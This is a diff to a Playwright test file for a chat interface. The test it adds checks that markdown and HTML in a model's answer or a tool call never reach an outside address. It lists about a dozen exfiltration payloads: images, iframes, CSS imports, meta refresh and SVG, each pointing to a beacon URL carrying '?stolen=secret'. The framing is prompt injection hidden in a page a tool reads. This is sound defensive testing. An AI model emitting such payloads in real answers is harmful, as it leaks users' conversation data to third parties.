@@ -1,6 +1,10 @@
 """How an answer's text is drawn: Markdown, while it streams and whole, and nothing that a model writes is run."""
 
 import re
+import socket
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
 
 import pytest
 from playwright.sync_api import expect
@@ -70,6 +74,43 @@ def test_an_image_from_elsewhere_is_a_link(chat: ChatPage) -> None:
     expect(answer.locator("img")).to_have_count(0)
     expect(answer.locator("a")).to_have_text(["a chart", "Image"])
     assert not [url for url in asked if ":9/" in url]
+
+
+@contextmanager
+def listener() -> Iterator[tuple[str, list[str]]]:
+    """An address of somebody else, and who has called there."""
+    calls: list[str] = []
+    with socket.create_server(("127.0.0.1", 0)) as server:
+
+        def listen() -> None:
+            with suppress(OSError):
+                while True:
+                    connection, peer = server.accept()
+                    calls.append(str(peer))
+                    connection.close()
+
+        threading.Thread(target=listen, daemon=True).start()
+        yield f"127.0.0.1:{server.getsockname()[1]}", calls
+        server.shutdown(socket.SHUT_RDWR)
+
+
+def test_nothing_that_a_model_or_a_tool_says_calls_anybody(chat: ChatPage) -> None:
+    """What somebody has hidden in a page that a tool reads must not carry the conversation away."""
+    with listener() as (there, calls):
+        beacon = f"http://{there}/?stolen=secret"
+        ways = [f"![x]({beacon})", f"![x][1]\n\n[1]: {beacon}", f"[![x]({beacon})]({beacon})", f"<{beacon}>", beacon,
+                f'<img src="{beacon}">', f'<link rel="prefetch" href="{beacon}">', f'<iframe src="{beacon}"></iframe>',
+                f"<style>@import url({beacon})</style>", f'<svg><image href="{beacon}"/></svg>',
+                f'<meta http-equiv="refresh" content="0;url={beacon}">', f'<video poster="{beacon}"></video>',
+                f"![x](//{there}/a.png)", f"![x](data:image/svg+xml,<svg><image href='{beacon}'/></svg>)",
+                f"```html\n<img src={beacon}>\n```", f"| ![x]({beacon}) |\n|---|\n| a |"]  # fmt: skip
+        call = {"call": "calculate", "arguments": {"expression": f"![x]({beacon})"}, "id": "call_away"}
+        answer = chat.answered(turns([call], [{"text": "\n\n".join(ways)}]))
+        answer.locator(".tool-head").click()
+        answer.locator("a").first.hover()
+        chat.page.reload()
+        expect(chat.answers).to_have_count(1)
+        assert calls == []
 
 
 def test_html_of_a_model_is_text(chat: ChatPage) -> None:
